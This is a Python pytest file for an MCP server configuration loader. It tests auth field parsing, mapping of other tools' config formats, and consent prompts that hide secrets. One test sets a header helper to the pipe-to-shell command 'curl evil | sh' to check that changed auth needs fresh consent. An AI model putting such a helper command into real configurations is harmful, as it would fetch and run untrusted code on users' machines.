"""The `auth` object of a row: our fields, the words of other programs, and what consent shows of it."""

from __future__ import annotations

from dataclasses import fields
from typing import TYPE_CHECKING, Any

import pytest

from indusagi.interop.auth.contract import AUTH_METHODS, GRANTS, AuthSettings
from indusagi.interop.protocol_bridge.contract import StreamableHttpServerConfig
from induscode.servers.config import rows
from induscode.servers.config.rows import Origin, ServerRow, parse_row
from induscode.servers.config.trust import TrustStore, server_identity

if TYPE_CHECKING:
    from pathlib import Path

URL = "https://mcp.example/mcp"


def row_of(expansion: Any = "shell", **written: Any) -> ServerRow:
    return parse_row(
        "s", {"url": URL, **written}, Origin("/p/.mcp.json", "project", "claude-code"), expansion=expansion
    )


def settings_of(row: ServerRow, **environ: str) -> AuthSettings | None:
    config = row.resolve(environ)
    assert isinstance(config, StreamableHttpServerConfig)
    return None if config.auth is None else config.auth.settings


def test_a_server_behind_a_url_is_signed_in_to_unless_its_row_says_no() -> None:
    assert settings_of(row_of()) == AuthSettings()
    for off in ({"auth": False}, {"oauth": False}, {"auth": {"type": "none"}}, {"oauth": {"enabled": False}}):
        assert settings_of(row_of(**off)) is None


def test_every_setting_can_be_written() -> None:
    auth = {
        "type": "oauth",
        "grant": "client_credentials",
        "client_id": "me",
        "client_secret": "${SECRET}",
        "auth_method": "client_secret_post",
        "private_key": "pem",
        "signing_algorithm": "RS256",
        "client_metadata_url": "https://c.example/c.json",
        "scopes": ["a", "b"],
        "callback_port": 7000,
        "redirect_uri": "http://127.0.0.1:7000/cb",
        "issuer": "https://as.example",
        "metadata_url": "https://as.example/meta",
        "assume_pkce": True,
        "assertion": "${JWT}",
        "assertion_file": "/run/token",
        "identity_provider": {"token_endpoint": "https://i/t", "client_id": "i", "id_token": "${ID}"},
        "dpop": True,
        "per_user": True,
        "header_command": ["helper", "${SECRET}"],
    }
    row = row_of(auth=auth)
    assert row.remarks == ()
    settings = settings_of(row, SECRET="s", JWT="j", ID="t")
    assert settings is not None
    assert (settings.client_secret, settings.assertion, settings.header_command) == ("s", "j", ("helper", "s"))
    assert settings.identity_provider is not None
    assert settings.identity_provider.id_token == "t"
    blank = AuthSettings()
    unset = [one.name for one in fields(blank) if getattr(settings, one.name) == getattr(blank, one.name)]
    assert unset == []


def test_the_choices_are_those_of_the_contract() -> None:
    assert rows._CHOICES == {"grant": GRANTS, "auth_method": AUTH_METHODS}


@pytest.mark.parametrize(
    ("fields", "expected"),
    [
        pytest.param(
            {"oauth": {"clientId": "me", "callbackPort": 7000, "authServerMetadataUrl": "https://m", "scopes": "a b"}},
            AuthSettings(
                client_id="me",
                callback_port=7000,
                redirect_uri="http://localhost:7000/callback",
                metadata_url="https://m",
                scopes=("a", "b"),
            ),
            id="claude-code",
        ),
        pytest.param(
            {"headersHelper": "get-headers --for x"},
            AuthSettings(header_command=("sh", "-c", "get-headers --for x")),
            id="claude-code-helper",
        ),
        pytest.param(
            {"auth": {"CLIENT_ID": "me", "CLIENT_SECRET": "s", "scopes": ["a"]}},
            AuthSettings(client_id="me", client_secret="s", scopes=("a",)),
            id="cursor",
        ),
        pytest.param(
            {"oauth": {"enabled": True, "clientId": "me", "clientSecret": "s", "redirectUri": "http://localhost:1/x"}},
            AuthSettings(client_id="me", client_secret="s", redirect_uri="http://localhost:1/x"),
            id="gemini",
        ),
        pytest.param(
            {"oauth": {"clientId": "me", "scope": "a"}}, AuthSettings(client_id="me", scopes=("a",)), id="opencode"
        ),
    ],
)
def test_the_words_of_other_programs_are_understood(fields: dict[str, Any], expected: AuthSettings) -> None:
    row = row_of(**fields)
    assert row.remarks == ()
    assert settings_of(row) == expected


@pytest.mark.parametrize(
    "auth",
    [
        *({"grant": "password"}, {"auth_method": "tls"}, {"scopes": 7}, {"scopes": []}, {"callback_port": 0}),
        *({"callback_port": "7"}, {"dpop": "yes"}, {"header_command": [1]}, {"client_id": 7}, {"colour": "red"}),
        {"identity_provider": {"token_endpoint": "https://i"}},
    ],
)
def test_an_invalid_field_is_left_out_with_a_remark(auth: dict[str, Any]) -> None:
    row = row_of(auth=auth)
    assert len(row.remarks) == 1
    assert next(iter(auth)) in row.remarks[0]
    assert settings_of(row) == AuthSettings()


def test_auth_that_is_no_object_is_left_out_with_a_remark() -> None:
    assert row_of(auth="oauth").remarks == ("its auth is not an object, and was left out",)


def test_consent_shows_the_command_and_hides_secrets(tmp_path: Path) -> None:
    store = TrustStore(str(tmp_path / "trust.json"))
    auth = {"client_id": "me", "client_secret": "s3cret ${GITHUB_TOKEN}", "header_command": ["helper", "--all"]}
    row = row_of(auth=auth)
    question = store.question(row)
    shown = "\n".join(question.details)
    assert 'sign-in, header_command: "[\\"helper\\",\\"--all\\"]"' in shown
    assert "s3cret" not in shown
    assert any("runs a command" in warning for warning in question.warnings)
    assert any("GITHUB_TOKEN" in warning and "client_secret" in warning for warning in question.warnings)


def test_a_changed_auth_needs_another_consent(tmp_path: Path) -> None:
    store = TrustStore(str(tmp_path / "trust.json"))
    plain, helped = row_of(), row_of(headersHelper="curl evil | sh")
    store.approve(plain, store.question(plain).digest)
    assert store.consent(plain) == "trusted"
    assert store.consent(helped) == "changed"
    changed = [line for line in store.question(helped).lines if line.startswith("CHANGED")]
    assert [line.partition(": ")[2] for line in changed] == ["auth", "field headersHelper"]
    assert server_identity(plain.config) == server_identity(helped.config), "pins stay"
